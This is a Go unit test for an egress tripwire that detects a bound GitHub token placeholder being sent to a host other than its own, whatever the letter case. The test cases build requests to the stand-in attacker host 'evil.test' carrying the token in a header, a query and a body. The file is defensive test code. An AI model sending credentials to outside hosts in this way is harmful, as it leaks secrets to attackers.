package egress

import (
	"io"
	"net/http"
	"strings"
	"testing"
)

// The tripwire finds a bound secret's placeholder headed elsewhere in the
// URL, a header or the body, whatever its case: a tool that upper-cases a
// header value does not slip by.
func TestTripwireCaseVariants(t *testing.T) {
	pol := &Policy{Secrets: []Secret{{Name: "GH_TOKEN", Hosts: mustList(t, "api.github.test"), Header: "Authorization",
		Format: "Bearer {value}", Placeholder: Placeholder("GH_TOKEN")}}}
	ph := Placeholder("GH_TOKEN")
	for _, c := range []struct {
		name string
		req  func() *http.Request
	}{
		{"header as is", func() *http.Request {
			r, _ := http.NewRequest("GET", "http://evil.test/", nil)
			r.Header.Set("Authorization", "Bearer "+ph)
			return r
		}},
		{"header upper-cased", func() *http.Request {
			r, _ := http.NewRequest("GET", "http://evil.test/", nil)
			r.Header.Set("Authorization", "Bearer "+strings.ToUpper(ph))
			return r
		}},
		{"query mixed case", func() *http.Request {
			r, _ := http.NewRequest("GET", "http://evil.test/?t=Sandgate-Placeholder-gh_token", nil)
			return r
		}},
		{"body upper-cased", func() *http.Request {
			r, _ := http.NewRequest("POST", "http://evil.test/", strings.NewReader(`{"t":"`+strings.ToUpper(ph)+`"}`))
			return r
		}},
	} {
		r := c.req()
		name, err := pol.tripwire(r, "evil.test", 80)
		if err != nil || name != "GH_TOKEN" {
			t.Errorf("%s: tripwire %q %v, want GH_TOKEN", c.name, name, err)
		}
		if r.Body != nil {
			if b, _ := io.ReadAll(r.Body); c.name == "body upper-cased" && !strings.Contains(string(b), strings.ToUpper(ph)) {
				t.Errorf("%s: the body was not put back: %q", c.name, b)
			}
		}
	}
	// To its own host it does not trip.
	r, _ := http.NewRequest("GET", "https://api.github.test/", nil)
	r.Header.Set("Authorization", "Bearer "+strings.ToUpper(ph))
	if name, _ := pol.tripwire(r, "api.github.test", 443); name != "" {
		t.Errorf("to its own host: tripped %q", name)
	}
}
